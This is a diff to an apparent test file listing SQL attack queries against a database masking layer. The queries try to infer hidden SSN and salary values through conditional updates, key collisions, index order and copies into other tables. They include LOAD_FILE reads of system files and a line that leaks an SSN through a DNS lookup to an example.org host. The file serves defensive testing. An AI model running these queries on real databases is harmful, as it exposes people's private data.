@@ -2,6 +2,72 @@
 import type { AttackList } from '../attack-list.ts'
 
 export const attacks: AttackList = [
+  // One of several values, which one is chosen by what is masked, or is not known to fit.
+  [
+    "UPDATE people SET note = CASE WHEN salary > 42000000 THEN 'a' ELSE note END",
+    'SELECT id, note FROM people ORDER BY id',
+  ],
+  ["UPDATE people SET note = IF(ssn IS NULL, 'a', ssn)", 'SELECT id, note FROM people ORDER BY id'],
+  ['UPDATE people SET note = COALESCE(ssn, note)', 'SELECT id, note FROM people ORDER BY id'],
+  ["UPDATE people SET email = CASE WHEN salary > 42000000 THEN 'a' ELSE email END"],
+  [
+    "UPDATE people SET email = CASE WHEN salary > 42000000 THEN 'taken' WHEN id = 2 THEN 'taken' ELSE email END",
+  ],
+  [
+    "UPDATE people SET email = CASE WHEN id = 1 THEN email ELSE CONCAT(id, 'x') END",
+    'SELECT COUNT(*) FROM people',
+  ],
+  ['UPDATE people SET email = CASE WHEN id = 1 THEN phone ELSE email END'],
+  ['UPDATE people SET email = CASE WHEN id = 1 THEN ssn ELSE email END'],
+  ['UPDATE people SET salary = CASE WHEN id = 1 THEN big ELSE salary END'],
+  ['UPDATE people SET salary = CASE WHEN salary > 42000000 THEN 99999999999999 ELSE salary END'],
+  ['UPDATE people SET salary = IF(salary > 42000000, 99999999999999, salary)'],
+  ['UPDATE people SET salary = COALESCE(salary, 99999999999999)'],
+  [
+    'UPDATE people SET salary = COALESCE(NULLIF(salary > 42000000, 0) + 76, salary)',
+    'SELECT COUNT(*) FROM people WHERE salary = 77',
+  ],
+  [
+    'UPDATE people SET salary = GREATEST(salary, 42000000)',
+    'SELECT COUNT(*) FROM people WHERE salary = 42000000',
+  ],
+  ['UPDATE people SET salary = CASE WHEN id = 1 THEN salary ELSE salary + 1 END'],
+  [
+    'UPDATE people SET manager_id = CASE WHEN salary > 42000000 THEN 1 ELSE 2 END',
+    'SELECT id, manager_id FROM people ORDER BY id',
+  ],
+  [
+    'UPDATE people SET salary = CASE id WHEN (SELECT MAX(x.id) FROM notes x WHERE x.id < people.salary) THEN 1 ELSE salary END',
+  ],
+  [
+    'INSERT INTO people (id, salary) VALUES (1, 77) ON DUPLICATE KEY UPDATE salary = GREATEST(VALUES(salary), salary)',
+    'SELECT COUNT(*) FROM people WHERE salary = 77',
+  ],
+  [
+    'INSERT INTO people (id, salary) VALUES (1, 5) ON DUPLICATE KEY UPDATE note = COALESCE(salary, VALUES(salary))',
+    'SELECT note FROM people',
+  ],
+  [
+    "INSERT INTO people (id, salary) VALUES (1, 5) ON DUPLICATE KEY UPDATE note = IF(salary > 42000000, 'a', note)",
+    'SELECT note FROM people',
+  ],
+  [
+    "INSERT INTO notes (id, body) SELECT id + 800, COALESCE(ssn, 'x') FROM people",
+    'SELECT body FROM notes',
+  ],
+  [
+    "INSERT INTO notes (id, body) SELECT id + 800, CASE WHEN id = 1 THEN 'x' ELSE ssn END FROM people",
+    'SELECT body FROM notes',
+  ],
+  [
+    "CREATE TEMPORARY TABLE w AS SELECT id, CASE WHEN id = 1 THEN 'x' ELSE ssn END AS x FROM people",
+    'SELECT * FROM w',
+  ],
+  ["SET @w = (SELECT COALESCE(ssn, 'x') FROM people WHERE id = 1)", 'SELECT @w'],
+  // Read by the order of an index that is named.
+  'SELECT id FROM people FORCE INDEX (people_salary)',
+  'SELECT id FROM people USE INDEX (`PRIMARY`, people_salary) WHERE salary IS NOT NULL',
+
   ['INSERT INTO notes (body) SELECT ssn FROM people', 'SELECT body FROM notes'],
   ['INSERT INTO notes (body) SELECT CONCAT(ssn) FROM people', 'SELECT body FROM notes'],
   [
@@ -231,4 +297,37 @@ export const attacks: AttackList = [
   ['SELECT LOAD_FILE("/etc/hostname")'],
   ["SELECT LOAD_FILE(CONCAT('/tmp/', ssn)) FROM people WHERE id = 1"],
   ["SELECT LOAD_FILE(CONCAT('//', ssn, '.example.org/x')) FROM people WHERE id = 1"],
+]
+
+/** Rows that are other ones now had other values: an answer to a guess, for whom none may be asked. */
+export const renewed: AttackList = [
+  [
+    'UPDATE people_touched SET active = NOT 0 WHERE id = 1',
+    'SELECT id, touched IS NULL FROM people_touched ORDER BY id',
+  ],
+  [
+    'UPDATE people_touched SET active = 1',
+    'SELECT id, touched IS NULL FROM people_touched ORDER BY id',
+  ],
+  [
+    'UPDATE people_touched SET active = 1, note = NULL',
+    'SELECT COUNT(touched) FROM people_touched',
+  ],
+  ['UPDATE touched_view SET a = 1', 'SELECT id, t IS NULL FROM touched_view ORDER BY id'],
+  [
+    'UPDATE people_touched SET active = CASE WHEN id < 3 THEN 1 ELSE active END',
+    'SELECT COUNT(touched) FROM people_touched',
+  ],
+  [
+    'UPDATE people_touched SET active = COALESCE(active, 1)',
+    'SELECT COUNT(touched) FROM people_touched',
+  ],
+  [
+    'UPDATE people_touched t JOIN dept d ON d.id = 1 SET t.active = 1',
+    'SELECT COUNT(touched) FROM people_touched',
+  ],
+  [
+    'INSERT INTO people_touched (id, active) VALUES (1, 1), (2, 1) ON DUPLICATE KEY UPDATE active = VALUES(active)',
+    'SELECT COUNT(touched) FROM people_touched',
+  ],
 ]
